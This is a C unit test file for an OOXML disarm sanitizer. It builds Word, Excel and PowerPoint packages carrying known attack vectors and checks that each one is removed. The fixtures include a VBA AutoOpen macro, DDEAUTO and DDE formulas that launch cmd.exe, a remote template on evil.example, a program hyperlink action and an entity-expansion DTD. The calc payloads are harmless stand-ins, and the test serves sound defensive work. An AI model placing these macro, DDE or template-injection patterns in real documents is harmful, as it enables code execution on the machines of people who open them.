/* Unit tests for OOXML disarm, on packages built here part by part: docm/xlsm/pptm with a VBA
 * project, a docx with an external attached template and DDE fields (simple, split across runs, and
 * with a computed name), an xlsx with a DDE external link and formula, a pptx with ActiveX, an OLE
 * object and a program action. Each output is opened again and searched part by part. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "sanitize/disarm.h"
#include "sanitize/zip_mem.h"

#define CT_HEAD                                                                                              \
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"                                         \
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"                          \
    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"  \
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"                                           \
    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"                      \
    "<Default Extension=\"png\" ContentType=\"image/png\"/>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define RELS_END "</Relationships>"
#define REL(id, type, target) "<Relationship Id=\"" id "\" Type=\"" type "\" Target=\"" target "\"/>"
#define REL_EXT(id, type, target) "<Relationship Id=\"" id "\" Type=\"" type "\" Target=\"" target "\" TargetMode=\"External\"/>"
#define OD "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define MS "http://schemas.microsoft.com/office/2006/relationships/"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

typedef struct Pkg {
    ZipWriter w;
} Pkg;

static void pkg_start(Pkg *k)
{
    assert_true(zipw_open(&k->w));
}

static void pkg_add(Pkg *k, const char *name, const char *data)
{
    assert_true(zipw_add(&k->w, name, data, strlen(data)));
}

static void pkg_finish(Pkg *k, Buf *out)
{
    assert_true(zipw_finish(&k->w, out));
}

/* The content of a member of the ZIP in b ("" when absent; caller frees). */
static char *member(const Buf *b, const char *name, bool *present)
{
    zip_t *z = zipmem_open((const uint8_t *)b->data, b->len);
    assert_non_null(z);
    zip_int64_t i = zip_name_locate(z, name, 0);
    Buf m = BUF_INIT;
    if (present)
        *present = i >= 0;
    if (i >= 0)
        assert_true(zipmem_read(z, (zip_uint64_t)i, &m));
    zip_discard(z);
    return buf_take(&m);
}

static bool member_has(const Buf *b, const char *name, const char *s)
{
    char *m = member(b, name, NULL);
    bool r = strstr(m, s) != NULL;
    free(m);
    return r;
}

static bool member_present(const Buf *b, const char *name)
{
    bool present;
    free(member(b, name, &present));
    return present;
}

static bool json_has(const Verdict *v, const char *s)
{
    char *j = verdict_to_json(v);
    bool r = strstr(j, s) != NULL;
    free(j);
    return r;
}

static Verdict *disarm_with(const SanitizePolicy *p, const Buf *in, const char *name, Buf *out)
{
    Verdict *v = verdict_new(name);
    disarm_file(p, (const uint8_t *)in->data, in->len, name, out, v, 0);
    return v;
}

static Verdict *disarm(const Buf *in, const char *name, Buf *out)
{
    SanitizePolicy p;
    sanitize_policy_defaults(&p);
    p.require_malware_scan = false;
    return disarm_with(&p, in, name, out);
}

/* ---- Word ---- */

static void word_package(Buf *out, const char *main_ct, const char *doc_rels, const char *body, const char *settings,
                         const char *settings_rels, bool vba)
{
    Pkg k;
    pkg_start(&k);
    char *ct = NULL;
    assert_true(asprintf(&ct,
                         CT_HEAD "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>"
                                 "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-"
                                 "officedocument.wordprocessingml.settings+xml\"/></Types>",
                         main_ct) > 0);
    pkg_add(&k, "[Content_Types].xml", ct);
    free(ct);
    pkg_add(&k, "_rels/.rels", RELS_HEAD REL("rId1", OD "officeDocument", "word/document.xml") RELS_END);
    char *doc = NULL;
    assert_true(asprintf(&doc, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document " W_NS "><w:body>%s</w:body></w:document>",
                         body) > 0);
    pkg_add(&k, "word/document.xml", doc);
    free(doc);
    char *rels = NULL;
    assert_true(asprintf(&rels, RELS_HEAD REL("rIdS", OD "settings", "settings.xml") "%s" RELS_END, doc_rels) > 0);
    pkg_add(&k, "word/_rels/document.xml.rels", rels);
    free(rels);
    char *set = NULL;
    assert_true(asprintf(&set, "<?xml version=\"1.0\"?><w:settings " W_NS ">%s<w:zoom w:percent=\"100\"/></w:settings>",
                         settings) > 0);
    pkg_add(&k, "word/settings.xml", set);
    free(set);
    if (settings_rels)
        pkg_add(&k, "word/_rels/settings.xml.rels", settings_rels);
    if (vba) {
        pkg_add(&k, "word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub");
        pkg_add(&k, "word/_rels/vbaProject.bin.rels", RELS_HEAD REL("rId1", MS "wordVbaData", "vbaData.xml") RELS_END);
        pkg_add(&k, "word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>");
    }
    pkg_finish(&k, out);
}

#define PARA(text) "<w:p><w:r><w:t>" text "</w:t></w:r></w:p>"

static void docm_loses_its_macros(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.ms-word.document.macroEnabled.main+xml",
                 REL("rIdV", OD "vbaProject", "vbaProject.bin"), PARA("無害な本文です。"), "", NULL, true);
    Verdict *v = disarm(&in, "会議資料.docm", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "\"type\":\"docm\""));
    assert_true(json_has(v, "VBA macros"));
    assert_false(member_present(&out, "word/vbaProject.bin"));
    assert_false(member_present(&out, "word/vbaData.xml"));
    assert_false(member_has(&out, "word/_rels/document.xml.rels", "vbaProject"));
    assert_false(member_has(&out, "[Content_Types].xml", "macroEnabled"));
    assert_false(member_has(&out, "[Content_Types].xml", "vbaProject"));
    assert_true(member_has(&out, "[Content_Types].xml", "wordprocessingml.document.main+xml"));
    assert_true(member_has(&out, "word/document.xml", "無害な本文です。"));
    assert_true(member_has(&out, "word/settings.xml", "w:zoom"));
    /* The result is a docx by content. */
    Verdict *again = disarm(&out, "会議資料.docx", &in);
    assert_string_equal(verdict_action(again), "clean");
    assert_true(json_has(again, "\"type\":\"docx\""));
    verdict_free(again);
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

static void docm_named_docx_is_blocked(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.ms-word.document.macroEnabled.main+xml",
                 REL("rIdV", OD "vbaProject", "vbaProject.bin"), PARA("x"), "", NULL, true);
    Verdict *v = disarm(&in, "report.docx", &out);
    assert_string_equal(verdict_block_code(v), "name_mismatch");
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

static void docx_external_template_is_removed(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "",
                 PARA("本文"), "<w:attachedTemplate r:id=\"rIdT\"/>",
                 RELS_HEAD REL_EXT("rIdT", OD "attachedTemplate", "http://evil.example/t.dotm") RELS_END, false);
    Verdict *v = disarm(&in, "a.docx", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "attached template"));
    assert_false(member_has(&out, "word/_rels/settings.xml.rels", "evil.example"));
    assert_false(member_has(&out, "word/settings.xml", "attachedTemplate"));
    assert_true(member_has(&out, "word/settings.xml", "w:zoom"));
    assert_true(member_has(&out, "word/document.xml", "本文"));
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

static void docx_dde_fields_are_removed(void **state)
{
    (void)state;
    const char *body =
        /* a simple field */
        "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
        "<w:r><w:t>result-one</w:t></w:r></w:fldSimple></w:p>"
        /* a complex field with the name split across runs */
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> D</w:instrText></w:r>"
        "<w:r><w:instrText>DE cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
        "<w:r><w:t>result-two</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        /* a field whose name is computed by a nested QUOTE field */
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        "<w:r><w:instrText> \"cmd\" \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        /* a harmless field stays */
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "", body, "",
                 NULL, false);
    Verdict *v = disarm(&in, "dde.docx", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "DDE field code"));
    assert_true(json_has(v, "field code with a computed name"));
    char *doc = member(&out, "word/document.xml", NULL);
    assert_null(strstr(doc, "DDE"));
    assert_null(strstr(doc, "DE cmd"));
    assert_null(strstr(doc, "cmd.exe"));
    assert_null(strstr(doc, "fldSimple"));
    assert_null(strstr(doc, "\"cmd\""));
    assert_non_null(strstr(doc, "result-one"));
    assert_non_null(strstr(doc, "result-two"));
    assert_non_null(strstr(doc, " PAGE "));
    free(doc);
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

static void hyperlinks_follow_the_policy(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                 REL_EXT("rIdH", OD "hyperlink", "https://www.example.jp/")
                     REL_EXT("rIdI", OD "image", "http://tracker.example/pixel.png"),
                 "<w:p><w:hyperlink r:id=\"rIdH\"><w:r><w:t>リンク文</w:t></w:r></w:hyperlink></w:p>", "", NULL, false);
    SanitizePolicy p;
    sanitize_policy_defaults(&p);
    p.require_malware_scan = false;
    Verdict *v = disarm_with(&p, &in, "l.docx", &out);
    assert_true(member_has(&out, "word/_rels/document.xml.rels", "https://www.example.jp/"));
    assert_false(member_has(&out, "word/_rels/document.xml.rels", "tracker.example"));
    assert_true(member_has(&out, "word/document.xml", "w:hyperlink"));
    verdict_free(v);

    p.allow_hyperlinks = false;
    v = disarm_with(&p, &in, "l.docx", &out);
    assert_false(verdict_blocked(v));
    assert_false(member_has(&out, "word/_rels/document.xml.rels", "example.jp"));
    assert_false(member_has(&out, "word/document.xml", "w:hyperlink"));
    assert_true(member_has(&out, "word/document.xml", "リンク文"));
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

/* ---- Excel ---- */

#define S_NS "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

static void excel_package(Buf *out, bool macros)
{
    Pkg k;
    pkg_start(&k);
    pkg_add(&k, "[Content_Types].xml",
            macros ? CT_HEAD "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
                             "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                             "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/></Types>"
                   : CT_HEAD "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                             "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
                             "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/></Types>");
    pkg_add(&k, "_rels/.rels", RELS_HEAD REL("rId1", OD "officeDocument", "xl/workbook.xml") RELS_END);
    pkg_add(&k, "xl/workbook.xml",
            "<?xml version=\"1.0\"?><workbook " S_NS "><sheets><sheet name=\"予算\" sheetId=\"1\" r:id=\"rId1\"/></sheets>"
            "<externalReferences><externalReference r:id=\"rId2\"/></externalReferences></workbook>");
    pkg_add(&k, "xl/_rels/workbook.xml.rels",
            macros ? RELS_HEAD REL("rId1", OD "worksheet", "worksheets/sheet1.xml") REL("rId2", OD "externalLink", "externalLinks/externalLink1.xml")
                         REL("rId3", MS "vbaProject", "vbaProject.bin") RELS_END
                   : RELS_HEAD REL("rId1", OD "worksheet", "worksheets/sheet1.xml")
                         REL("rId2", OD "externalLink", "externalLinks/externalLink1.xml") RELS_END);
    pkg_add(&k, "xl/worksheets/sheet1.xml",
            "<?xml version=\"1.0\"?><worksheet " S_NS "><sheetData>"
            "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>歳入</t></is></c><c r=\"B1\"><v>1200</v></c></row>"
            "<row r=\"2\"><c r=\"A2\"><f>cmd|' /C calc'!A0</f><v>0</v></c><c r=\"B2\"><f>[1]Sheet1!A1</f><v>5</v></c>"
            "<c r=\"C2\"><f>SUM(B1:B1)</f><v>1200</v></c></row>"
            "<row r=\"3\"><c r=\"A3\"><f>DDE(\"cmd\",\"/c calc\",\"A1\")</f></c><c r=\"B3\"><f>_xlfn.WEBSERVICE(\"http://x.example/\")</f></c>"
            "<c r=\"C3\"><f>rtd (\"prog.id\",,\"t\")</f></c><c r=\"D3\"><f>ADDE(1)+\"DDE(\"</f></c></row></sheetData></worksheet>");
    pkg_add(&k, "xl/externalLinks/externalLink1.xml",
            "<?xml version=\"1.0\"?><externalLink " S_NS "><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
    if (macros)
        pkg_add(&k, "xl/vbaProject.bin", "VBA");
    pkg_finish(&k, out);
}

static void xlsx_dde_is_removed(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    excel_package(&in, false);
    Verdict *v = disarm(&in, "予算.xlsx", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "external link"));
    assert_true(json_has(v, "external or DDE formula"));
    assert_false(member_present(&out, "xl/externalLinks/externalLink1.xml"));
    assert_false(member_has(&out, "xl/workbook.xml", "externalReference"));
    assert_false(member_has(&out, "xl/_rels/workbook.xml.rels", "externalLink"));
    char *sheet = member(&out, "xl/worksheets/sheet1.xml", NULL);
    assert_null(strstr(sheet, "cmd|"));
    assert_null(strstr(sheet, "[1]"));
    assert_null(strstr(sheet, "calc\",\"A1"));
    assert_null(strstr(sheet, "WEBSERVICE"));
    assert_null(strstr(sheet, "prog.id"));
    /* a name ending in DDE, and DDE( inside a string, are not calls */
    assert_non_null(strstr(sheet, "ADDE(1)"));
    assert_non_null(strstr(sheet, "SUM(B1:B1)"));
    assert_non_null(strstr(sheet, "歳入"));
    free(sheet);
    assert_true(member_has(&out, "xl/workbook.xml", "予算"));
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

static void xlsm_loses_its_macros(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    excel_package(&in, true);
    Verdict *v = disarm(&in, "集計.xlsm", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "\"type\":\"xlsm\""));
    assert_false(member_present(&out, "xl/vbaProject.bin"));
    assert_false(member_has(&out, "[Content_Types].xml", "macroEnabled"));
    assert_true(member_has(&out, "[Content_Types].xml", "spreadsheetml.sheet.main+xml"));
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

/* ---- PowerPoint ---- */

static void pptm_loses_macros_activex_and_programs(void **state)
{
    (void)state;
    Pkg k;
    pkg_start(&k);
    pkg_add(&k, "[Content_Types].xml",
            CT_HEAD "<Override PartName=\"/ppt/presentation.xml\" ContentType=\"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml\"/>"
                    "<Override PartName=\"/ppt/slides/slide1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.slide+xml\"/>"
                    "<Override PartName=\"/ppt/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>"
                    "<Override PartName=\"/ppt/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/></Types>");
    pkg_add(&k, "_rels/.rels",
            RELS_HEAD REL("rId1", OD "officeDocument", "ppt/presentation.xml")
                REL("rId2", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml") RELS_END);
    pkg_add(&k, "customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"Boom\"/>");
    pkg_add(&k, "ppt/presentation.xml",
            "<?xml version=\"1.0\"?><p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
            "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>");
    pkg_add(&k, "ppt/_rels/presentation.xml.rels",
            RELS_HEAD REL("rId1", OD "slide", "slides/slide1.xml") REL("rId9", MS "vbaProject", "vbaProject.bin") RELS_END);
    pkg_add(&k, "ppt/vbaProject.bin", "VBA");
    pkg_add(&k, "ppt/slides/slide1.xml",
            "<?xml version=\"1.0\"?><p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" "
            "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "
            "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree>"
            "<p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id=\"rIdP\" action=\"ppaction://program\"/></a:rPr>"
            "<a:t>スライド本文</a:t></a:r></a:p></p:txBody></p:sp>"
            "<p:graphicFrame><a:graphic><a:graphicData><p:oleObj r:id=\"rIdO\" progId=\"Package\"/></a:graphicData></a:graphic></p:graphicFrame>"
            "</p:spTree></p:cSld><p:controls><p:control r:id=\"rIdX\"/></p:controls></p:sld>");
    pkg_add(&k, "ppt/slides/_rels/slide1.xml.rels",
            RELS_HEAD REL_EXT("rIdP", OD "hyperlink", "calc.exe") REL("rIdO", OD "oleObject", "../embeddings/oleObject1.bin")
                REL("rIdX", OD "control", "../activeX/activeX1.xml") RELS_END);
    pkg_add(&k, "ppt/embeddings/oleObject1.bin", "OLE");
    pkg_add(&k, "ppt/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>");
    Buf in = BUF_INIT, out = BUF_INIT;
    pkg_finish(&k, &in);
    Verdict *v = disarm(&in, "説明.pptm", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "customUI"));
    assert_true(json_has(v, "ActiveX control"));
    assert_true(json_has(v, "OLE object"));
    assert_true(json_has(v, "program or macro action on a link"));
    assert_false(member_present(&out, "ppt/vbaProject.bin"));
    assert_false(member_present(&out, "customUI/customUI.xml"));
    assert_false(member_present(&out, "ppt/embeddings/oleObject1.bin"));
    assert_false(member_present(&out, "ppt/activeX/activeX1.xml"));
    char *slide = member(&out, "ppt/slides/slide1.xml", NULL);
    assert_null(strstr(slide, "ppaction"));
    assert_null(strstr(slide, "oleObj"));
    assert_null(strstr(slide, "p:control"));
    assert_non_null(strstr(slide, "スライド本文"));
    free(slide);
    assert_false(member_has(&out, "[Content_Types].xml", "macroEnabled"));
    verdict_free(v);
    buf_free(&in);
    buf_free(&out);
}

/* Parts in UTF-16 hide their element names from a byte search: they get the full parse. */
static void utf16_parts_are_cleaned_too(void **state)
{
    (void)state;
    const char *xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document " W_NS "><w:body>"
                      "<w:p><w:fldSimple w:instr=\"DDEAUTO cmd /c calc\"><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>"
                      "</w:body></w:document>";
    Buf u16 = BUF_INIT;
    buf_append(&u16, "\xFF\xFE", 2);
    for (const char *c = xml; *c; c++) {
        buf_putc(&u16, *c);
        buf_putc(&u16, '\0');
    }
    Buf in = BUF_INIT, out = BUF_INIT;
    word_package(&in, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "", "", "",
                 NULL, false);
    Pkg k;
    pkg_start(&k);
    zip_t *z = zipmem_open((const uint8_t *)in.data, in.len);
    for (zip_int64_t i = 0; i < zip_get_num_entries(z, 0); i++) {
        const char *name = zip_get_name(z, (zip_uint64_t)i, 0);
        Buf m = BUF_INIT;
        assert_true(zipmem_read(z, (zip_uint64_t)i, &m));
        if (strcmp(name, "word/document.xml") == 0)
            assert_true(zipw_add(&k.w, name, u16.data, u16.len));
        else
            pkg_add(&k, name, buf_str(&m));
        buf_free(&m);
    }
    zip_discard(z);
    Buf pkg = BUF_INIT;
    pkg_finish(&k, &pkg);
    Verdict *v = disarm(&pkg, "u16.docx", &out);
    assert_false(verdict_blocked(v));
    assert_true(json_has(v, "DDE field code"));
    char *doc = member(&out, "word/document.xml", NULL);
    assert_null(strstr(doc, "DDE"));
    assert_non_null(strstr(doc, "kept"));
    free(doc);
    verdict_free(v);
    buf_free(&u16);
    buf_free(&in);
    buf_free(&pkg);
    buf_free(&out);
}

/* A binary workbook is blocked with its own reason (it once read as a name mismatch). */
static void xlsb_is_blocked_as_a_binary_workbook(void **state)
{
    (void)state;
    Pkg k;
    pkg_start(&k);
    pkg_add(&k, "[Content_Types].xml",
            CT_HEAD "<Override PartName=\"/xl/workbook.bin\" ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>");
    pkg_add(&k, "_rels/.rels", RELS_HEAD REL("rId1", OD "officeDocument", "xl/workbook.bin") RELS_END);
    pkg_add(&k, "xl/workbook.bin", "\x83\x01\x00");
    Buf in = BUF_INIT, out = BUF_INIT;
    pkg_finish(&k, &in);
    Verdict *v = disarm(&in, "予算.xlsb", &out);
    assert_string_equal(verdict_block_code(v), "binary_workbook");
    assert_true(json_has(v, ".xlsx"));
    assert_int_equal(out.len, 0);
    verdict_free(v);
    buf_free(&in);
}

static void malformed_packages_are_blocked(void **state)
{
    (void)state;
    Buf in = BUF_INIT, out = BUF_INIT;
    /* A DTD (entity expansion) in a part. */
    word_package(&in, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "", "", "", NULL,
                 false);
    Pkg k;
    pkg_start(&k);
    zip_t *z = zipmem_open((const uint8_t *)in.data, in.len);
    for (zip_int64_t i = 0; i < zip_get_num_entries(z, 0); i++) {
        const char *name = zip_get_name(z, (zip_uint64_t)i, 0);
        Buf m = BUF_INIT;
        assert_true(zipmem_read(z, (zip_uint64_t)i, &m));
        if (strcmp(name, "word/document.xml") == 0)
            pkg_add(&k, name, "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"
                              "<w:document " W_NS "><w:body>&b;</w:body></w:document>");
        else
            pkg_add(&k, name, buf_str(&m));
        buf_free(&m);
    }
    zip_discard(z);
    Buf bad = BUF_INIT;
    pkg_finish(&k, &bad);
    Verdict *v = disarm(&bad, "dtd.docx", &out);
    assert_string_equal(verdict_block_code(v), "ooxml_malformed");
    assert_int_equal(out.len, 0);
    verdict_free(v);
    buf_free(&in);
    buf_free(&bad);
    buf_free(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(docm_loses_its_macros),
        cmocka_unit_test(docm_named_docx_is_blocked),
        cmocka_unit_test(docx_external_template_is_removed),
        cmocka_unit_test(docx_dde_fields_are_removed),
        cmocka_unit_test(hyperlinks_follow_the_policy),
        cmocka_unit_test(xlsx_dde_is_removed),
        cmocka_unit_test(xlsm_loses_its_macros),
        cmocka_unit_test(pptm_loses_macros_activex_and_programs),
        cmocka_unit_test(utf16_parts_are_cleaned_too),
        cmocka_unit_test(malformed_packages_are_blocked),
        cmocka_unit_test(xlsb_is_blocked_as_a_binary_workbook),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
